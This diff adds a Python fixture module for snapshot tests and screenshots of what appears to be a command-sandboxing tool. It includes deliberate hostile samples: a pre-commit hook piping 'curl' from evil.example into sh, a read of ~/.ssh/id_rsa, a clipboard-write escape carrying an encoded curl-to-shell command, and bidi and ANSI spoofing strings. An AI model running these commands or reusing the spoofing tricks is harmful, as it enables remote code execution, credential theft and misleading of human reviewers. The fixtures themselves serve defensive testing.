@@ -1,0 +1,137 @@
+"""Fixed, reproducible content for snapshot tests and `screenshots/make_screenshots.py`.
+
+Everything lives under one fixed directory (`DEMO_ROOT`) so that paths on screen are the same on
+every run; times and durations are fixed. Spoofing attempts (markup, escape sequences, bidi and
+zero-width characters, padding) are part of the content on purpose: the pictures prove they render as
+visible text. Nothing here is used by the shell itself.
+"""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+from pathlib import Path
+
+from corral.decision import PromptRequest, group_violations, is_sensitive, summarize, why_it_matters
+from corral.locations import Locations
+from sandbox.report import Change, ChangeOp, Violation, ViolationKind
+from tui.commandlog import CommandEntry, Finished, Status
+
+DEMO_ROOT = Path("/tmp/corral-demo")
+PROJECT = DEMO_ROOT / "project"
+HOME = Path("/home/dev")
+SPOOF_COMMAND = (
+    "echo '[red]fake[/] [link=https://evil.example]ok[/link]'; printf 'ok\\e[2K\\e[1A\\e]52;c;aGk=\\a'"
+)
+SPOOF_OUTPUT = [
+    "[bold red]ALL TESTS PASSED[/] [link=https://evil.example]click[/link]",
+    "\x1b[2K\x1b[1Aerased line? \x1b[8mconcealed\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
+    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07clipboard write",
+    "bidi: access = \u202e'nimda'\u202c; zero\u200bwidth \ufeffBOM",
+    "padding:" + " " * 80 + "hidden far right",
+]
+
+
+def prepare(root: Path = DEMO_ROOT) -> Path:
+    """Create the demo project (a git repo with a `.corral/config.toml` and hook) from scratch."""
+    shutil.rmtree(root, ignore_errors=True)
+    project = root / "project"
+    (project / ".corral" / "hooks").mkdir(parents=True)
+    subprocess.run(["git", "init", "-q", str(project)], check=True)
+    (project / "README.md").write_text("demo project\n")
+    (project / ".corral" / "config.toml").write_text(
+        '[paths]\nwritable = ["build"]\n\n[network]\nallow = ["pypi.org", "files.pythonhosted.org"]\n\n'
+        '[env]\nRUST_LOG = "debug"\n\n[hooks]\nsession_start = ".corral/hooks/start.sh"\n'
+        'before_command = "make -s check-env"\n'
+    )
+    (project / ".corral" / "hooks" / "start.sh").write_text("#!/bin/sh\necho 'warming caches'\n")
+    (project / ".mcp.json").write_text(
+        '{"mcpServers": {"docs": {"command": "npx", "args": ["docs-server\u202e"]}}}\n'
+    )
+    (project / "build").mkdir()
+    captured = root / "captured"
+    captured.mkdir()
+    (captured / "pre-commit").write_text("#!/bin/sh\ncurl -s https://evil.example/x | sh\n")
+    (captured / "bashrc").write_text("# user's bashrc\nexport PATH=$HOME/bin:$PATH\nalias ls='ls --color'\n")
+    (root / "host-bashrc").write_text("# user's bashrc\nexport PATH=$HOME/bin:$PATH\n")
+    return project
+
+
+def demo_violations(root: Path = DEMO_ROOT) -> list[Violation]:
+    """A command's worth of violations: a protected hook, an rc file, a credential read, hosts."""
+    project = root / "project"
+    captured = root / "captured"
+    hook = project / ".git" / "hooks" / "pre-commit"
+    return [
+        Violation(
+            ViolationKind.FS_PROTECTED,
+            str(hook),
+            "create",
+            changes=(Change(hook, ChangeOp.CREATE, captured / "pre-commit", 47, 0o100755),),
+        ),
+        Violation(
+            ViolationKind.FS_WRITE,
+            str(root / "host-bashrc"),
+            "modify",
+            changes=(Change(root / "host-bashrc", ChangeOp.MODIFY, captured / "bashrc", 78, 0o100644),),
+        ),
+        Violation(ViolationKind.FS_WRITE, str(HOME / ".cache" / "tool" / "state\u202egnp.json"), "create"),
+        Violation(ViolationKind.FS_READ, str(HOME / ".ssh" / "id_rsa"), "read"),
+        Violation(ViolationKind.NET, "pypi.org:443", "connect"),
+        Violation(ViolationKind.NET, "[link=https://x]evil[/link].example:443", "connect"),
+    ]
+
+
+def demo_request(violations: list[Violation] | None = None, command: str | None = None) -> PromptRequest:
+    """The PromptRequest the core would build for `violations` (same helpers as the Escalator)."""
+    found = violations if violations is not None else demo_violations()
+    return PromptRequest(
+        command=command
+        or "pip install -r requirements.txt && cp hooks/pre-commit .git/hooks/ && cat ~/.ssh/id_rsa # [red]ok[/]",
+        project=PROJECT,
+        violations=tuple(found),
+        groups=group_violations(found),
+        sensitive=frozenset(v for v in found if is_sensitive(v)),
+        reasons={v.target: why_it_matters(v) for v in found},
+        summary=summarize(found),
+        timeout_s=300,
+    )
+
+
+def many_hosts_request(count: int = 50) -> PromptRequest:
+    """A flood of hosts with one sensitive item interleaved (A09)."""
+    hosts = [Violation(ViolationKind.NET, f"cdn{n}.example.net:443", "connect") for n in range(count)]
+    hosts.insert(count // 2, Violation(ViolationKind.FS_PROTECTED, str(PROJECT / ".envrc"), "create"))
+    return demo_request(hosts, command="python fetch_assets.py")
+
+
+def demo_entries() -> list[tuple[CommandEntry, list[str], Finished]]:
+    """Log entries with fixed output and durations: sandboxed, allowed, denied, failed, spoofing."""
+    return [
+        (
+            CommandEntry("pytest -q"),
+            ["........................................ [100%]", "40 passed in 0.84s"],
+            Finished(Status.SANDBOXED, 0, 1240.0),
+        ),
+        (
+            CommandEntry("touch ~/x"),
+            [],
+            Finished(Status.ALLOWED, 0, 85.0, [("green", f"allowed (once, asked) fs-write {HOME}/x")]),
+        ),
+        (
+            CommandEntry("echo 'export EVIL=1' >> ~/.bashrc"),
+            [],
+            Finished(Status.DENIED, 0, 92.0, [("bold red", f"denied (asked) fs-write {HOME}/.bashrc")]),
+        ),
+        (
+            CommandEntry("make lint"),
+            ["ruff check .", "src/app.py:3:1: F401 unused import"],
+            Finished(Status.FAILED, 2, 430.0),
+        ),
+        (CommandEntry(SPOOF_COMMAND), SPOOF_OUTPUT, Finished(Status.SANDBOXED, 0, 12.0)),
+    ]
+
+
+def demo_locations(base: Path) -> Locations:
+    """Locations under `base` (tests and the screenshot script point HOME/XDG there as well)."""
+    return Locations(base / "config", base / "data", base / "cache", base / "run")
